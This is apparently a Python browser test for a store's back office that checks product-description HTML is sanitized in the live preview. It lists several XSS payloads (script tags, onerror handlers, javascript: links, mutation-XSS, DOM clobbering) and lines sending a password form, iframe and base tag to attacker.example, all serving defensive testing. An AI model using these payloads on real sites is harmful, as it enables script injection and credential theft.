"""Descriptions in the back office: their HTML, and what it becomes."""

from __future__ import annotations

from tests.browser.office import OFFICE_MARKS, Clerk, each_width
from tests.harness.records import PASSWORD, add_user
from tests.harness.scopes import value

pytestmark = OFFICE_MARKS
# Each would change the page or send something, were it not taken out.
ATTACKS = (
    "<script>window.stolen = 1</script>",
    "<img src=x: onerror='window.stolen = 2'>",
    "<svg><a xlink:href='javascript:window.stolen=3'>x</a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=window.stolen=4&gt;'>",
    "<form action='https://attacker.example/'><input name='password'></form>",
    "<style>body { display: none }</style><p style='position: fixed; inset: 0'>cobre tudo</p>",
    "<iframe src='https://attacker.example/'></iframe><base href='https://attacker.example/'>",
    "<a id='config' name='config' href='javascript:window.stolen=5'>link</a>",
)
_PREVIEW = "document.querySelector('[data-preview]')"
_UNSAFE = f"""[...{_PREVIEW}.querySelectorAll('*')].flatMap(each => [
    ...('SCRIPT STYLE FORM INPUT IFRAME BASE OBJECT EMBED LINK META'.split(' ').includes(each.tagName.toUpperCase()) ? [each.tagName] : []),
    ...[...each.attributes].filter(({{ name, value }}) => /^on|^(style|id|name|class)$/.test(name) || /^\\s*javascript:/i.test(value))
        .map(({{ name }}) => name)])"""


@each_width
async def test_a_description_is_written_with_buttons_and_previewed(clerk: Clerk) -> None:
    staff = await add_user(clerk.store, "view_products", "manage_products")
    await clerk.sign_in(staff.email, PASSWORD)
    await clerk.see("Início")
    product = await value(clerk.store, "select public_id from products where status = 'A' order by id limit 1")
    await clerk.go(f"/product/{product}", "Produto")
    await clerk.fill("input.description", "Feito à mão")
    await clerk.page.evaluate("document.querySelector('[name=\"input.description\"]').select()")
    await clerk.press("Negrito")
    await clerk.page.wait_for(f"{_PREVIEW}?.querySelector('strong')?.innerText === 'Feito à mão'")
    await clerk.check("description")
    await clerk.press("Salvar")
    await clerk.see("Salvo")
    assert await value(clerk.store, "select description from products where public_id = $1", product) == (
        "<strong>Feito à mão</strong>"
    )
    for attack in ATTACKS:
        await clerk.fill("input.description", f"<p>antes de {len(attack)}</p>{attack}")
        await clerk.page.wait_for(f"{_PREVIEW}?.innerText.includes('antes de {len(attack)}')")
        assert await clerk.page.evaluate(_UNSAFE) == [], attack
    assert await clerk.page.evaluate("window.stolen ?? null") is None
    assert await clerk.page.evaluate(f"{_PREVIEW}.querySelector('a').rel") == "noopener noreferrer"
    # The browser says so of the document in which the HTML is parsed, where nothing runs.
    clerk.excuse("Content Security Policy directive")
    clerk.excuse("x:")
